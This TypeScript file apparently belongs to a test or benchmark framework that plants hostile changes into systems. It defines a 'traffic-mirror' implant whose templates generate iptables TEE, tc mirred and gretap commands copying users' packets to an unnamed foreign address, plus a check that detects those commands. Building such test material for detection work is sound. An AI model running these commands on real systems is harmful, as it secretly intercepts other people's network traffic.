import type { Implant } from '#domain/plugin';
import { deviceOf, foreignAddress, vehiclesOf } from '#engine/ground/vehicles';

/** Copies of the traffic of others. */
export const trafficMirror: Implant = {
  kind: 'implant',
  id: 'traffic-mirror',
  version: 1,
  doc: {
    name: 'Copies of the traffic of others',
    says: 'Packets of users are copied and sent to an address or device that nobody named.',
    sources: ['tc-mirred(8); iptables-extensions(8), TEE; ip-link(8), gretap'],
    limits: [
      'Mirroring in switching chips and in compiled programs is not planted.',
      'The root file system is taken to be writable at start-up; what only a test, a loop or a variable leads to carries no plant.',
    ],
  },
  question: 'interception',
  templates: vehiclesOf({
    ways: [
      (site, level, draw) =>
        site.has('iptables')
          ? [
              `iptables -t mangle -A ${level === 'overt' ? 'FORWARD' : 'POSTROUTING'} -i ${deviceOf(site, draw)} -j TEE --gateway ${foreignAddress(draw)}`,
            ]
          : null,
      (site, level, draw) =>
        site.has('tc')
          ? [
              `tc qdisc add dev ${deviceOf(site, draw)} ingress`,
              `tc filter add dev ${deviceOf(site, draw)} parent ffff: protocol all u32 match u8 0 0 action mirred egress mirror dev ${level === 'overt' ? 'tap0' : 'ifb1'}`,
            ]
          : null,
      (site, level, draw) =>
        site.has('ip')
          ? [
              `ip link add ${level === 'overt' ? 'copy0' : 'gretap1'} type gretap remote ${foreignAddress(draw)}`,
            ]
          : null,
    ],
    isDone: ({ started }) =>
      started.some(
        ({ program, words }) =>
          (program === 'iptables' && words.includes('TEE')) ||
          (program === 'tc' && words.includes('mirred')) ||
          (program === 'ip' && words.includes('gretap')),
      ),
  }),
};
